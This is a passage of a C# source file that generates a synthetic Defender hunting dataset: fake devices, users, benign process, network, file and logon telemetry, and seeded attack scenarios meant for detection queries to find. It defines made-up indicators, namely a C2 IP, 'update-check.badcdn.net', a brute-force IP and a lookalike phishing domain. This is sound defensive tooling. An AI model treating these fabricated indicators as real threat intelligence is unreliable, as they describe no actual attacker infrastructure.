using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using System.Security.Cryptography;
using System.Text;

namespace Defender365Typed.KqlEngine;

/// <summary>An alert of a synthetic incident (Graph-style camelCase enum values).</summary>
/// <param name="Id">The alert ID, also <c>AlertId</c> in AlertInfo and AlertEvidence.</param>
/// <param name="Title">The title.</param>
/// <param name="Severity">informational, low, medium or high.</param>
/// <param name="Status">new, inProgress or resolved.</param>
/// <param name="Category">The MITRE category, e.g. Execution.</param>
/// <param name="ServiceSource">e.g. microsoftDefenderForEndpoint.</param>
/// <param name="DetectionSource">e.g. endpointDetectionAndResponse.</param>
/// <param name="CreatedDateTime">When the alert was raised (UTC).</param>
public sealed record SyntheticAlert(
    string Id, string Title, string Severity, string Status, string Category, string ServiceSource, string DetectionSource, DateTime CreatedDateTime);

/// <summary>An incident of the synthetic dataset; its alerts are rows of AlertInfo whose evidence references the other tables.</summary>
/// <param name="Id">The incident ID.</param>
/// <param name="DisplayName">The title.</param>
/// <param name="Severity">informational, low, medium or high.</param>
/// <param name="Status">active, inProgress or resolved.</param>
/// <param name="Classification">unknown, truePositive, falsePositive...</param>
/// <param name="Determination">unknown, malware, phishing...</param>
/// <param name="AssignedTo">The assignee, or null.</param>
/// <param name="CreatedDateTime">Creation time (UTC).</param>
/// <param name="LastUpdateDateTime">Last update time (UTC).</param>
/// <param name="Alerts">The incident's alerts.</param>
public sealed record SyntheticIncident(
    long Id, string DisplayName, string Severity, string Status, string Classification, string Determination, string? AssignedTo,
    DateTime CreatedDateTime, DateTime LastUpdateDateTime, IReadOnlyList<SyntheticAlert> Alerts)
{
    /// <summary>The alert IDs.</summary>
    public IReadOnlyList<string> AlertIds => Alerts.Select(a => a.Id).ToArray();
}

/// <summary>
/// A deterministic synthetic tenant: a few thousand rows over DeviceProcessEvents, DeviceNetworkEvents, DeviceFileEvents,
/// DeviceLogonEvents, DeviceInfo, EmailEvents, EmailUrlInfo, UrlClickEvents, IdentityLogonEvents, AlertInfo and
/// AlertEvidence (every documented column present; realistic values for the important ones), incidents whose alerts
/// reference those rows, and empty tables for every other documented table. The same seed and time give the same rows.
/// It contains attack activity for hunting queries to find: Office spawning encoded PowerShell with C2 traffic,
/// credential dumping, discovery commands, LOLBin download cradles, RDP brute force followed by a success, a phishing
/// mail whose URL was clicked, a password spray, ransomware renames and shadow-copy deletion, archive staging.
/// </summary>
public sealed class SyntheticDataset : ITableSource
{
    private readonly Dictionary<string, KqlResultTable> _tables;

    private SyntheticDataset(DateTime now, Dictionary<string, KqlResultTable> tables, IReadOnlyList<SyntheticIncident> incidents)
    {
        Now = now;
        _tables = tables;
        Incidents = incidents;
    }

    /// <summary>The time the data is relative to (use it as <see cref="EngineOptions.Now"/>).</summary>
    public DateTime Now { get; }

    /// <summary>The incidents, newest first.</summary>
    public IReadOnlyList<SyntheticIncident> Incidents { get; }

    /// <summary>Every table (the generated ones and empty documented ones).</summary>
    public IReadOnlyDictionary<string, KqlResultTable> Tables => _tables;

    /// <inheritdoc/>
    public IEnumerable<string> TableNames => _tables.Keys;

    /// <inheritdoc/>
    public bool TryGetTable(string name, out KqlResultTable table) => _tables.TryGetValue(name, out table!);

    /// <summary>A copy with <paramref name="table"/> added or replacing the table of the same name (for user-loaded tables).</summary>
    public SyntheticDataset With(KqlResultTable table)
    {
        ArgumentNullException.ThrowIfNull(table);
        var tables = new Dictionary<string, KqlResultTable>(_tables, StringComparer.Ordinal) { [table.Name] = table };
        return new SyntheticDataset(Now, tables, Incidents);
    }

    /// <summary>Builds the dataset for <paramref name="seed"/> with timestamps in the days before <paramref name="now"/>.</summary>
    public static SyntheticDataset Create(int seed = 365, DateTime? now = null)
    {
        DateTime reference = now is { } n
            ? (n.Kind == DateTimeKind.Local ? n.ToUniversalTime() : DateTime.SpecifyKind(n, DateTimeKind.Utc))
            : new DateTime(2025, 6, 2, 12, 0, 0, DateTimeKind.Utc);
        var builder = new Builder(seed, reference);
        builder.Build();
        var tables = new Dictionary<string, KqlResultTable>(StringComparer.Ordinal);
        foreach (string name in HuntingSchema.Tables.Keys)
        {
            tables[name] = builder.Table(name);
        }

        return new SyntheticDataset(reference, tables, builder.Incidents);
    }

    private sealed record Device(string Id, string Name, string Platform, string OsVersion, long Build, string Ip, string PublicIp, bool InternetFacing, string Exposure);

    private sealed record User(string Name, string Domain, string Sid, string Upn, string ObjectId, string DisplayName);

    private sealed class Builder(int seed, DateTime now)
    {
        private const string Domain = "contoso.com";
        private const string C2Ip = "185.220.101.45";
        private const string C2Url = "update-check.badcdn.net";
        private const string BruteIp = "45.155.205.12";
        private const string PhishDomain = "c0ntoso-helpdesk.com";

        private readonly Random _random = new(seed);
        private readonly Dictionary<string, List<Dictionary<string, object?>>> _rows = new(StringComparer.Ordinal);
        private readonly List<Device> _devices = [];
        private readonly List<User> _users = [];
        private readonly List<SyntheticIncident> _incidents = [];
        private long _reportId = 1000;
        private long _pid = 4000;

        public IReadOnlyList<SyntheticIncident> Incidents => _incidents.OrderByDescending(i => i.CreatedDateTime).ToList();

        public KqlResultTable Table(string name)
        {
            IReadOnlyList<KqlResultColumn> columns = HuntingSchema.Columns(name);
            var rows = new List<object?[]>();
            if (_rows.TryGetValue(name, out List<Dictionary<string, object?>>? list))
            {
                var index = columns.Select((c, i) => (c.Name, i)).ToDictionary(x => x.Name, x => x.i, StringComparer.Ordinal);
                foreach (Dictionary<string, object?> values in list.OrderBy(r => (DateTime)r["Timestamp"]!))
                {
                    object?[] row = columns.Select(c => Values.Coerce(null, c.Type)).ToArray();
                    foreach (KeyValuePair<string, object?> v in values)
                    {
                        if (!index.TryGetValue(v.Key, out int i))
                        {
                            throw new InvalidOperationException($"The synthetic dataset sets {name}.{v.Key}, which is not documented.");
                        }

                        row[i] = Values.Coerce(v.Value, columns[i].Type);
                    }

                    rows.Add(row);
                }
            }

            return new KqlResultTable(name, columns, rows);
        }

        private Dictionary<string, object?> Add(string table, DateTime timestamp)
        {
            var row = new Dictionary<string, object?>(StringComparer.Ordinal) { ["Timestamp"] = timestamp };
            if (!_rows.TryGetValue(table, out List<Dictionary<string, object?>>? list))
            {
                _rows[table] = list = [];
            }

            list.Add(row);
            return row;
        }

        private static string Hash(HashAlgorithm algorithm, string text) =>
            Convert.ToHexStringLower(algorithm.ComputeHash(Encoding.UTF8.GetBytes(text)));

        // Synthetic hashes: SHA-256 of a prefixed name, cut to the length of the hash they stand for.
        private static string Sha1(string text)
        {
            using var h = SHA256.Create();
            return Hash(h, "sha1:" + text)[..40];
        }

        private static string Sha256(string text)
        {
            using var h = SHA256.Create();
            return Hash(h, "sha256:" + text);
        }

        private static string Md5(string text)
        {
            using var h = SHA256.Create();
            return Hash(h, "md5:" + text)[..32];
        }

        private Guid NewGuid()
        {
            byte[] bytes = new byte[16];
            _random.NextBytes(bytes);
            return new Guid(bytes);
        }

        private T Pick<T>(IReadOnlyList<T> items) => items[_random.Next(items.Count)];

        /// <summary>A time <paramref name="maxAgo"/> or less before now, with sub-second precision.</summary>
        private DateTime Ago(TimeSpan maxAgo, TimeSpan? minAgo = null)
        {
            long min = (minAgo ?? TimeSpan.FromMinutes(1)).Ticks;
            long span = Math.Max(1, maxAgo.Ticks - min);
            return now - TimeSpan.FromTicks(min + (long)(_random.NextDouble() * span));
        }

        public void Build()
        {
            CreatePeople();
            DeviceInventory();
            BackgroundProcesses();
            BackgroundNetwork();
            BackgroundFiles();
            BackgroundLogons();
            BackgroundMail();
            BackgroundIdentity();
            AttackOnFinance();
            RdpBruteForce();
            Ransomware();
            PasswordSpray();
            OlderAlerts();
        }

        private void CreatePeople()
        {
            string[] names = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "svc_backup"];
            string[] display = ["Alice Smith", "Bob Jones", "Carol White", "Dave Brown", "Erin Green", "Frank Black", "Grace Hall", "Backup Service"];
            for (int i = 0; i < names.Length; i++)
            {
                // Cloud-only users have Entra ID SIDs (S-1-12-1-...), the others on-premises domain SIDs.
                string sid = i % 2 == 0 && i < 7
                    ? string.Create(CultureInfo.InvariantCulture, $"S-1-12-1-3570415424-1218452245-2419612827-{2714342810 + i}")
                    : string.Create(CultureInfo.InvariantCulture, $"S-1-5-21-1004336348-1177238915-682003330-{1104 + i}");
                _users.Add(new User(names[i], "CONTOSO", sid, names[i] + "@" + Domain, NewGuid().ToString("D"), display[i]));
            }

            (string Name, string Platform, string Version, long Build, bool Facing, string Exposure)[] devices =
            [
                ("ws-finance-01", "Windows11", "22H2", 22621, false, "High"),
                ("ws-hr-02", "Windows11", "23H2", 22631, false, "Medium"),
                ("ws-dev-03", "Windows10", "22H2", 19045, true, "Medium"),
                ("ws-sales-04", "Windows10", "21H2", 19044, false, "Low"),
                ("srv-dc-01", "WindowsServer2019", "1809", 17763, false, "High"),
                ("srv-web-01", "WindowsServer2022", "21H2", 20348, true, "High"),
                ("srv-file-01", "WindowsServer2016", "1607", 14393, false, "Medium"),
                ("mac-design-01", "macOS", "14.5", 0, false, "Low"),
                ("linux-build-01", "Linux", "22.04", 0, true, "Medium"),
            ];
            for (int i = 0; i < devices.Length; i++)
            {
                var d = devices[i];
                string id = Sha1("device:" + d.Name)[..40];
                string publicIp = d.Name == "srv-web-01" ? "203.0.113.25" : "203.0.113.10";
                _devices.Add(new Device(id, d.Name + ".contoso.local", d.Platform, d.Version, d.Build,
                    string.Create(CultureInfo.InvariantCulture, $"10.0.{1 + (i / 4)}.{20 + i}"), publicIp, d.Facing, d.Exposure));
            }
        }

        private Device DeviceNamed(string shortName) => _devices.First(d => d.Name.StartsWith(shortName + ".", StringComparison.Ordinal));

        private User UserNamed(string name) => _users.First(u => u.Name == name);

        private IEnumerable<Device> WindowsDevices => _devices.Where(d => d.Platform.StartsWith("Windows", StringComparison.Ordinal));

        private void DeviceInventory()
        {
            foreach (Device d in _devices)
            {
                // A snapshot every 8 hours for 10 days.
                for (int k = 0; k < 30; k++)
                {
                    DateTime t = now - TimeSpan.FromHours(8 * k) - TimeSpan.FromMinutes(_random.Next(1, 50));
                    Dictionary<string, object?> r = Add("DeviceInfo", t);
                    r["DeviceId"] = d.Id;
                    r["DeviceName"] = d.Name;
                    r["ClientVersion"] = "10.8760.22621.1000";
                    r["PublicIP"] = d.PublicIp;
                    r["OSArchitecture"] = d.Platform == "macOS" ? "arm64" : "64-bit";
                    r["OSPlatform"] = d.Platform;
                    r["OSBuild"] = d.Build == 0 ? null : d.Build;
                    r["OSVersion"] = d.OsVersion;
                    r["IsAzureADJoined"] = d.Name.StartsWith("ws-", StringComparison.Ordinal);
                    r["JoinType"] = d.Name.StartsWith("ws-", StringComparison.Ordinal) ? "Hybrid Azure AD Join" : "Domain Joined";
                    r["AadDeviceId"] = d.Name.StartsWith("ws-", StringComparison.Ordinal) ? Sha256(d.Name)[..8] + "-0000-4000-8000-" + Sha256(d.Name)[8..20] : "";
                    r["LoggedOnUsers"] = "[{\"UserName\":\"" + Pick(_users).Name + "\",\"DomainName\":\"CONTOSO\"}]";
                    r["MachineGroup"] = d.Name.StartsWith("srv-", StringComparison.Ordinal) ? "Servers" : "Workstations";
                    r["ReportId"] = _reportId++;
                    r["OnboardingStatus"] = "Onboarded";
                    r["AdditionalFields"] = "{}";
                    r["DeviceCategory"] = "Endpoint";
                    r["DeviceType"] = d.Name.StartsWith("srv-", StringComparison.Ordinal) ? "Server" : "Workstation";
                    r["Model"] = d.Platform == "macOS" ? "MacBookPro18,1" : "Virtual Machine";
                    r["Vendor"] = d.Platform == "macOS" ? "Apple" : "Microsoft Corporation";
                    r["OSDistribution"] = d.Platform == "Linux" ? "Ubuntu" : "";
                    r["IsInternetFacing"] = d.InternetFacing;
                    r["SensorHealthState"] = d.Name.StartsWith("linux-", StringComparison.Ordinal) ? "Inactive" : "Active";
                    r["IsExcluded"] = false;
                    r["ExposureLevel"] = d.Exposure;
                    r["AssetValue"] = d.Name.StartsWith("srv-dc", StringComparison.Ordinal) ? "High" : "Normal";
                    r["DeviceManualTags"] = "[]";
                    r["DeviceDynamicTags"] = "[]";
                    r["ConnectivityType"] = "Streamlined";
                }
            }
        }

        private static readonly (string File, string Folder, string Company, string Command, string Parent)[] BenignProcesses =
        [
            ("svchost.exe", @"C:\Windows\System32", "Microsoft Corporation", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", "services.exe"),
            ("chrome.exe", @"C:\Program Files\Google\Chrome\Application", "Google LLC", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer", "explorer.exe"),
            ("msedge.exe", @"C:\Program Files (x86)\Microsoft\Edge\Application", "Microsoft Corporation", "\"msedge.exe\" --single-argument https://portal.office.com", "explorer.exe"),
            ("teams.exe", @"C:\Users\{user}\AppData\Local\Microsoft\Teams\current", "Microsoft Corporation", "\"Teams.exe\" --system-initiated", "explorer.exe"),
            ("outlook.exe", @"C:\Program Files\Microsoft Office\root\Office16", "Microsoft Corporation", "\"OUTLOOK.EXE\" /recycle", "explorer.exe"),
            ("winword.exe", @"C:\Program Files\Microsoft Office\root\Office16", "Microsoft Corporation", "\"WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\Q3 report.docx\"", "explorer.exe"),
            ("excel.exe", @"C:\Program Files\Microsoft Office\root\Office16", "Microsoft Corporation", "\"EXCEL.EXE\" \"C:\\Users\\{user}\\Documents\\budget.xlsx\"", "explorer.exe"),
            ("cmd.exe", @"C:\Windows\System32", "Microsoft Corporation", "cmd.exe /c dir C:\\Users\\{user}\\Documents", "explorer.exe"),
            ("powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0", "Microsoft Corporation", "powershell.exe -NoProfile -Command Get-Process | Sort-Object CPU", "explorer.exe"),
            ("conhost.exe", @"C:\Windows\System32", "Microsoft Corporation", @"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", "cmd.exe"),
            ("MsMpEng.exe", @"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24050.7-0", "Microsoft Corporation", "\"MsMpEng.exe\"", "services.exe"),
            ("taskhostw.exe", @"C:\Windows\System32", "Microsoft Corporation", "taskhostw.exe -RegisterDevice -ProtectionStateChanged", "svchost.exe"),
            ("git.exe", @"C:\Program Files\Git\cmd", "The Git Development Community", "git.exe fetch --all", "cmd.exe"),
            ("rundll32.exe", @"C:\Windows\System32", "Microsoft Corporation", @"C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,Control_RunDLL", "explorer.exe"),
        ];

        private Dictionary<string, object?> Process(DateTime t, Device d, User u, string file, string folder, string command, string parent,
            string parentCommand = "", string integrity = "Medium", long logonId = 0, string company = "Microsoft Corporation", long? parentPid = null)
        {
            Dictionary<string, object?> r = Add("DeviceProcessEvents", t);
            bool system = integrity == "System";
            string account = system ? "system" : u.Name;
            r["DeviceId"] = d.Id;
            r["DeviceName"] = d.Name;
            r["ActionType"] = "ProcessCreated";
            r["FileName"] = file;
            r["FolderPath"] = folder.Replace("{user}", u.Name, StringComparison.Ordinal) + "\\" + file;
            r["SHA1"] = Sha1(file);
            r["SHA256"] = Sha256(file);
            r["MD5"] = Md5(file);
            r["FileSize"] = 50_000L + (Sha1(file)[0] * 1000L);
            r["ProcessVersionInfoCompanyName"] = company;
            r["ProcessVersionInfoProductName"] = file.Replace(".exe", "", StringComparison.OrdinalIgnoreCase);
            r["ProcessVersionInfoOriginalFileName"] = file;
            r["ProcessId"] = _pid += _random.Next(4, 400);
            r["ProcessCommandLine"] = command.Replace("{user}", u.Name, StringComparison.Ordinal);
            r["ProcessIntegrityLevel"] = integrity;
            r["ProcessTokenElevation"] = integrity is "High" or "System" ? "TokenElevationTypeFull" : "TokenElevationTypeLimited";
            r["ProcessCreationTime"] = t;
            r["AccountDomain"] = system ? "nt authority" : u.Domain;
            r["AccountName"] = account;
            r["AccountSid"] = system ? "S-1-5-18" : u.Sid;
            r["AccountUpn"] = system ? "" : u.Upn;
            r["AccountObjectId"] = system ? "" : u.ObjectId;
            r["LogonId"] = logonId != 0 ? logonId : system ? 999L : 0x3E7_0000L + _random.Next(1000);
            r["InitiatingProcessAccountDomain"] = r["AccountDomain"];
            r["InitiatingProcessAccountName"] = account;
            r["InitiatingProcessAccountSid"] = r["AccountSid"];
            r["InitiatingProcessAccountUpn"] = r["AccountUpn"];
            r["InitiatingProcessAccountObjectId"] = r["AccountObjectId"];
            r["InitiatingProcessLogonId"] = r["LogonId"];
            r["InitiatingProcessIntegrityLevel"] = integrity;
            r["InitiatingProcessTokenElevation"] = r["ProcessTokenElevation"];
            r["InitiatingProcessFileName"] = parent;
            r["InitiatingProcessSHA1"] = Sha1(parent);
            r["InitiatingProcessSHA256"] = Sha256(parent);
            r["InitiatingProcessMD5"] = Md5(parent);
            r["InitiatingProcessFileSize"] = 120_000L;
            r["InitiatingProcessVersionInfoCompanyName"] = "Microsoft Corporation";
            r["InitiatingProcessId"] = parentPid ?? _pid - _random.Next(1, 3);
            r["InitiatingProcessCommandLine"] = parentCommand.Length > 0 ? parentCommand : parent;
            r["InitiatingProcessCreationTime"] = t - TimeSpan.FromSeconds(_random.Next(1, 3600));
            r["InitiatingProcessFolderPath"] = @"c:\windows\" + parent;
            r["InitiatingProcessParentId"] = 700L + _random.Next(100);
            r["InitiatingProcessParentFileName"] = parent == "services.exe" ? "wininit.exe" : "userinit.exe";
            r["InitiatingProcessSignerType"] = "OsVendor";
            r["InitiatingProcessSignatureStatus"] = "Valid";
            r["ReportId"] = _reportId++;
            r["AdditionalFields"] = "{}";
            r["InitiatingProcessSessionId"] = system ? 0L : 1L;
            r["IsInitiatingProcessRemoteSession"] = false;
            r["CreatedProcessSessionId"] = system ? 0L : 1L;
            r["IsProcessRemoteSession"] = false;
            return r;
        }

        private void BackgroundProcesses()
        {
            var workstations = _devices.Where(d => d.Platform.StartsWith("Windows", StringComparison.Ordinal)).ToList();
            var people = _users.Where(u => u.Name != "svc_backup").ToList();
            for (int i = 0; i < 1300; i++)
            {
                var p = Pick(BenignProcesses);
                Device d = Pick(workstations);
                bool system = p.File is "svchost.exe" or "MsMpEng.exe" or "taskhostw.exe";
                Process(Ago(TimeSpan.FromDays(7)), d, Pick(people), p.File, p.Folder, p.Command, p.Parent,
                    integrity: system ? "System" : (i % 11 == 0 ? "High" : "Medium"), company: p.Company);
            }
        }

        private Dictionary<string, object?> Connection(DateTime t, Device d, string remoteIp, int remotePort, string remoteUrl, string process,
            long processId, User u, string action = "ConnectionSuccess", string remoteType = "Public")
        {
            Dictionary<string, object?> r = Add("DeviceNetworkEvents", t);
            r["DeviceId"] = d.Id;
            r["DeviceName"] = d.Name;
            r["ActionType"] = action;
            r["RemoteIP"] = remoteIp;
            r["RemotePort"] = remotePort;
            r["RemoteUrl"] = remoteUrl;
            r["LocalIP"] = d.Ip;
            r["LocalPort"] = 49152 + _random.Next(16000);
            r["Protocol"] = "Tcp";
            r["LocalIPType"] = "Private";
            r["RemoteIPType"] = remoteType;
            r["InitiatingProcessSHA1"] = Sha1(process);
            r["InitiatingProcessSHA256"] = Sha256(process);
            r["InitiatingProcessMD5"] = Md5(process);
            r["InitiatingProcessFileName"] = process;
            r["InitiatingProcessFileSize"] = 250_000L;
            r["InitiatingProcessVersionInfoCompanyName"] = "Microsoft Corporation";
            r["InitiatingProcessId"] = processId;
            r["InitiatingProcessCommandLine"] = process;
            r["InitiatingProcessCreationTime"] = t - TimeSpan.FromMinutes(_random.Next(1, 120));
            r["InitiatingProcessFolderPath"] = @"c:\windows\system32\" + process;
            r["InitiatingProcessParentFileName"] = "explorer.exe";
            r["InitiatingProcessParentId"] = 812L;
            r["InitiatingProcessAccountDomain"] = u.Domain;
            r["InitiatingProcessAccountName"] = u.Name;
            r["InitiatingProcessAccountSid"] = u.Sid;
            r["InitiatingProcessAccountUpn"] = u.Upn;
            r["InitiatingProcessAccountObjectId"] = u.ObjectId;
            r["InitiatingProcessIntegrityLevel"] = "Medium";
            r["InitiatingProcessTokenElevation"] = "TokenElevationTypeLimited";
            r["ReportId"] = _reportId++;
            r["AdditionalFields"] = "{}";
            r["InitiatingProcessSessionId"] = 1L;
            r["IsInitiatingProcessRemoteSession"] = false;
            return r;
        }

        private void BackgroundNetwork()
        {
            (string Url, string Ip, string Process)[] destinations =
            [
                ("www.microsoft.com", "23.45.229.117", "msedge.exe"),
                ("outlook.office365.com", "52.97.146.162", "outlook.exe"),
                ("teams.microsoft.com", "52.113.194.132", "teams.exe"),
                ("www.google.com", "142.250.74.36", "chrome.exe"),
                ("github.com", "140.82.121.3", "git.exe"),
                ("settings-win.data.microsoft.com", "20.42.73.29", "svchost.exe"),
                ("login.microsoftonline.com", "20.190.160.20", "msedge.exe"),
                ("cdn.contoso-partner.com", "198.51.100.40", "chrome.exe"),
            ];
            var windows = WindowsDevices.ToList();
            for (int i = 0; i < 1300; i++)
            {
                Device d = Pick(windows);
                User u = Pick(_users);
                if (i % 5 == 0)
                {
                    // Internal traffic: SMB and LDAP to the servers.
                    Device server = Pick(_devices.Where(x => x.Name.StartsWith("srv-", StringComparison.Ordinal)).ToList());
                    Connection(Ago(TimeSpan.FromDays(7)), d, server.Ip, Pick<int>([445, 389, 135, 88]), "", "svchost.exe", 900 + i, u, remoteType: "Private");
                    continue;
                }

                var dest = Pick(destinations);
                string action = i % 23 == 0 ? "ConnectionFailed" : "ConnectionSuccess";
                Connection(Ago(TimeSpan.FromDays(7)), d, dest.Ip, i % 9 == 0 ? 80 : 443, dest.Url, dest.Process, 5000 + i, u, action);
            }

            // Developer tunnels and rare destinations in the last day.
            Device dev = DeviceNamed("ws-dev-03");
            User erin = UserNamed("erin");
            Connection(Ago(TimeSpan.FromHours(20)), dev, "3.125.223.134", 443, "4f2a-81-2-69-160.ngrok-free.app", "chrome.exe", 7001, erin);
            Connection(Ago(TimeSpan.FromHours(18)), dev, "104.16.231.132", 443, "quiet-river-demo.trycloudflare.com", "chrome.exe", 7002, erin);
            Connection(Ago(TimeSpan.FromHours(5)), dev, "198.51.100.77", 445, "", "explorer.exe", 7003, erin);
            Connection(Ago(TimeSpan.FromHours(4)), dev, "198.51.100.77", 445, "", "explorer.exe", 7003, erin);
            Connection(Ago(TimeSpan.FromHours(3)), DeviceNamed("ws-sales-04"), "203.0.113.10", 445, "", "explorer.exe", 7004, UserNamed("frank"));
        }

        private Dictionary<string, object?> File(DateTime t, Device d, User u, string action, string fileName, string folder, long size,
            string process = "explorer.exe", string originUrl = "", string previousName = "")
        {
            Dictionary<string, object?> r = Add("DeviceFileEvents", t);
            r["DeviceId"] = d.Id;
            r["DeviceName"] = d.Name;
            r["ActionType"] = action;
            r["FileName"] = fileName;
            r["FolderPath"] = folder + "\\" + fileName;
            r["SHA1"] = Sha1(fileName);
            r["SHA256"] = Sha256(fileName);
            r["MD5"] = Md5(fileName);
            r["FileOriginUrl"] = originUrl;
            r["FileOriginIP"] = originUrl.Length > 0 ? C2Ip : "";
            r["PreviousFileName"] = previousName;
            r["PreviousFolderPath"] = previousName.Length > 0 ? folder : "";
            r["FileSize"] = size;
            r["InitiatingProcessAccountDomain"] = u.Domain;
            r["InitiatingProcessAccountName"] = u.Name;
            r["InitiatingProcessAccountSid"] = u.Sid;
            r["InitiatingProcessAccountUpn"] = u.Upn;
            r["InitiatingProcessAccountObjectId"] = u.ObjectId;
            r["InitiatingProcessFileName"] = process;
            r["InitiatingProcessSHA1"] = Sha1(process);
            r["InitiatingProcessSHA256"] = Sha256(process);
            r["InitiatingProcessMD5"] = Md5(process);
            r["InitiatingProcessFolderPath"] = @"c:\windows\" + process;
            r["InitiatingProcessFileSize"] = 4_500_000L;
            r["InitiatingProcessVersionInfoCompanyName"] = "Microsoft Corporation";
            r["InitiatingProcessId"] = 3000L + _random.Next(5000);
            r["InitiatingProcessCommandLine"] = process;
            r["InitiatingProcessCreationTime"] = t - TimeSpan.FromMinutes(_random.Next(1, 90));
            r["InitiatingProcessIntegrityLevel"] = "Medium";
            r["InitiatingProcessTokenElevation"] = "TokenElevationTypeLimited";
            r["InitiatingProcessParentId"] = 812L;
            r["InitiatingProcessParentFileName"] = "explorer.exe";
            r["ReportId"] = _reportId++;
            r["AdditionalFields"] = "{}";
            r["IsAzureInfoProtectionApplied"] = false;
            r["InitiatingProcessSessionId"] = 1L;
            r["IsInitiatingProcessRemoteSession"] = false;
            return r;
        }

        private void BackgroundFiles()
        {
            string[] names = ["Q3 report.docx", "budget.xlsx", "notes.txt", "slides.pptx", "invoice.pdf", "setup.msi", "photo.jpg", "data.csv", ".gitconfig", "readme.md"];
            string[] folders = [@"C:\Users\{user}\Documents", @"C:\Users\{user}\Downloads", @"C:\Users\{user}\Desktop", @"C:\Users\{user}\.vscode", @"\\srv-file-01\share\finance", @"C:\ProgramData\Temp"];
            var windows = WindowsDevices.ToList();
            var people = _users.Where(u => u.Name != "svc_backup").ToList();
            for (int i = 0; i < 700; i++)
            {
                User u = Pick(people);
                string folder = Pick(folders).Replace("{user}", u.Name, StringComparison.Ordinal);
                string name = Pick(names);
                string action = Pick<string>(["FileCreated", "FileCreated", "FileModified", "FileRenamed", "FileDeleted"]);
                string origin = folder.EndsWith("Downloads", StringComparison.Ordinal) ? "https://download.contoso-partner.com/" + Uri.EscapeDataString(name) : "";
                File(Ago(TimeSpan.FromDays(7)), Pick(windows), u, action, name, folder, 1024L * _random.Next(1, 40_000),
                    folder.StartsWith(@"\\", StringComparison.Ordinal) ? "System" : "explorer.exe", origin,
                    action == "FileRenamed" ? "~$" + name : "");
            }
        }

        private Dictionary<string, object?> Logon(DateTime t, Device d, User u, string action, string logonType, string remoteIp, string remoteType,
            int? remotePort = null, string failure = "", string protocol = "Negotiate")
        {
            Dictionary<string, object?> r = Add("DeviceLogonEvents", t);
            r["DeviceId"] = d.Id;
            r["DeviceName"] = d.Name;
            r["ActionType"] = action;
            r["LogonType"] = logonType;
            r["AccountDomain"] = u.Domain;
            r["AccountName"] = u.Name;
            r["AccountSid"] = u.Sid;
            r["Protocol"] = protocol;
            r["FailureReason"] = failure;
            r["IsLocalAdmin"] = u.Name is "dave" or "svc_backup";
            r["LogonId"] = 0x100000L + _random.Next(100000);
            r["RemoteDeviceName"] = remoteType == "Private" ? "ws-" + _random.Next(10, 99).ToString(CultureInfo.InvariantCulture) : "";
            r["RemoteIP"] = remoteIp;
            r["RemoteIPType"] = remoteType;
            r["RemotePort"] = remotePort;
            r["InitiatingProcessFileName"] = logonType == "Interactive" ? "winlogon.exe" : "lsass.exe";
            r["InitiatingProcessAccountName"] = "system";
            r["InitiatingProcessAccountDomain"] = "nt authority";
            r["InitiatingProcessAccountSid"] = "S-1-5-18";
            r["InitiatingProcessIntegrityLevel"] = "System";
            r["InitiatingProcessTokenElevation"] = "TokenElevationTypeDefault";
            r["InitiatingProcessId"] = 680L;
            r["InitiatingProcessCommandLine"] = "lsass.exe";
            r["InitiatingProcessFolderPath"] = @"c:\windows\system32\lsass.exe";
            r["InitiatingProcessCreationTime"] = now - TimeSpan.FromDays(9);
            r["InitiatingProcessParentFileName"] = "wininit.exe";
            r["InitiatingProcessParentId"] = 560L;
            r["ReportId"] = _reportId++;
            r["AdditionalFields"] = "{}";
            r["IsInitiatingProcessRemoteSession"] = false;
            return r;
        }

        private void BackgroundLogons()
        {
            var windows = WindowsDevices.ToList();
            var people = _users.Where(u => u.Name != "svc_backup").ToList();
            for (int i = 0; i < 450; i++)
            {
                Device d = Pick(windows);
                User u = Pick(people);
                string type = Pick<string>(["Interactive", "Network", "Network", "RemoteInteractive", "Unlock", "Batch"]);
                bool failed = i % 13 == 0;
                string ip = type == "Interactive" || type == "Unlock" ? "" : "10.0.1." + _random.Next(20, 60).ToString(CultureInfo.InvariantCulture);
                Logon(Ago(TimeSpan.FromDays(7)), d, u, failed ? "LogonFailed" : "LogonSuccess", type, ip, ip.Length == 0 ? "" : "Private",
                    ip.Length == 0 ? null : _random.Next(49152, 65535), failed ? "InvalidUserNameOrPassword" : "");
            }

            // Off-hours interactive logons (02:00-04:00 UTC) in the last month.
            for (int day = 2; day < 20; day += 3)
            {
                DateTime t = now.Date - TimeSpan.FromDays(day) + TimeSpan.FromHours(2) + TimeSpan.FromMinutes(_random.Next(0, 120));
                Logon(t, DeviceNamed("ws-hr-02"), UserNamed("grace"), "LogonSuccess", "Interactive", "", "");
            }

            // A device that is not in DeviceInfo (a BYOD laptop).
            var byod = new Device(Sha1("device:byod-laptop-07")[..40], "byod-laptop-07", "Windows11", "23H2", 22631, "10.0.9.77", "", false, "Low");
            for (int i = 0; i < 4; i++)
            {
                Logon(Ago(TimeSpan.FromHours(20)), byod, UserNamed("frank"), "LogonSuccess", "Interactive", "", "");
            }
        }

        private Dictionary<string, object?> Mail(DateTime t, string sender, string senderName, User recipient, string subject, string threat,
            string action, string location, int urls, int attachments, string senderIp, int bulk = 0, string direction = "Inbound", string auth = "")
        {
            Dictionary<string, object?> r = Add("EmailEvents", t);
            string senderDomain = sender[(sender.IndexOf('@', StringComparison.Ordinal) + 1)..];
            r["NetworkMessageId"] = NewGuid().ToString("D");
            r["InternetMessageId"] = "<" + NewGuid().ToString("N") + "@" + senderDomain + ">";
            r["SenderMailFromAddress"] = sender;
            r["SenderFromAddress"] = sender;
            r["SenderDisplayName"] = senderName;
            r["SenderMailFromDomain"] = senderDomain;
            r["SenderFromDomain"] = senderDomain;
            r["SenderIPv4"] = senderIp;
            r["RecipientEmailAddress"] = recipient.Upn;
            r["RecipientObjectId"] = recipient.ObjectId;
            r["Subject"] = subject;
            r["EmailClusterId"] = 3000000000L + _random.Next(1000);
            r["EmailDirection"] = direction;
            r["DeliveryAction"] = action;
            r["DeliveryLocation"] = location;
            r["ThreatTypes"] = threat;
